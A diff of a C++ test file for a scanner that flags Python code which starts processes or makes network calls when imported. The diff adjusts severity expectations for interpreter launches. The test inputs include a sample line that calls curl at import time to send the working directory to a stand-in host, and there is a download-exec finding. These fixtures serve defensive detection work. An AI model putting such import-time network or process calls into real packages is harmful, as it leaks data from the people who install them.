@@ -386,9 +386,13 @@ TEST(Behaviour, DownloadingCommandsAndPythonLaunchedAtImport) {
                 "download-exec", Severity::kHigh, Phase::kRuntime);
   ExpectFinding("import os\nos.popen(f\"curl -s http://x.example/{os.getcwd()}\")\n", "network-at-import");
   ExpectFinding("import subprocess\nsubprocess.Popen(['python3', '-c', 'import other'])\n",
-                "process-at-import", Severity::kHigh);
+                "process-at-import", Severity::kCritical);
   ExpectFinding("import subprocess, sys\nsubprocess.Popen([sys.executable, 'x.py'])\n",
                 "process-at-import", Severity::kHigh);
+  // A script file, not code on the command line: high, not critical.
+  auto script = Analyze("import subprocess, sys\nsubprocess.Popen([sys.executable, 'x.py'])\n");
+  ASSERT_NE(Find(script, "process-at-import"), nullptr) << Rules(script);
+  EXPECT_EQ(Find(script, "process-at-import")->severity, Severity::kHigh);
   // Any process started merely by importing is worth a look (high), but the
   // message tells an interpreter launch from an ordinary command.
   auto fs = Analyze("import subprocess\nsubprocess.call(['git', 'describe'])\n");
